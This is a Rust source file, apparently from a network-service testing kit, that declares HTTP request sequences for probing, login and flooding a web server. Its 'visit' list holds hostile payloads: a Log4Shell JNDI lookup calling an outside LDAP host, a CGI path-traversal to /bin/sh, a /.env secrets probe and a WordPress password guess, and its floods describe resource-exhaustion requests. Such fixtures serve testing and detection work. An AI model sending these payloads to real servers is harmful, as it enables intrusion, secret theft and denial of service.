//! How clients talk to a web server (RFC 9112).

use netsvc_kit::declared::{Flood, Step, Talks};

/// See [`Talks`].
pub(in super::super) const TALKS: Talks = Talks {
    stream: &[
        Step::Say(b"GET /{nonce} HTTP/1.1\r\nHost: {nonce}\r\nConnection: close\r\n\r\n"),
        Step::begins("a status line", &[b"HTTP/1."]),
    ],
    // The user is `admin-01`, which with its colon is a whole number of base64 groups.
    login: &[
        Step::Say(
            b"GET / HTTP/1.1\r\nHost: web\r\nAuthorization: Basic YWRtaW4tMDE6{nonce}\r\n\
              Connection: close\r\n\r\n",
        ),
        Step::begins("a status line", &[b"HTTP/1."]),
    ],
    visit: &[
        b"GET /.env HTTP/1.1\r\nHost: intranet\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n",
        b"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: intranet\r\n\r\n",
        b"POST /wp-login.php HTTP/1.1\r\nHost: intranet\r\nContent-Type: application/x-www-form-urlencoded\r\n\
          Content-Length: 29\r\nConnection: close\r\n\r\nlog=admin&pwd=Sommer2024&a=b.",
    ],
    dialogues: &[b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n"],
    floods: &[
        Flood { name: "a header", head: b"GET / HTTP/1.1\r\nHost: x\r\nX: ", unit: b"A" },
        Flood { name: "headers", head: b"GET / HTTP/1.1\r\nHost: x\r\n", unit: b"A: b\r\n" },
        Flood {
            name: "a body",
            head: b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 40000000\r\n\r\n",
            unit: b"A",
        },
        Flood {
            name: "chunks",
            head: b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
            unit: b"1\r\nA\r\n",
        },
        Flood { name: "requests", head: b"", unit: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" },
    ],
    client: "curl -i http://{ip}:{port}/",
    ..Talks::NONE
};
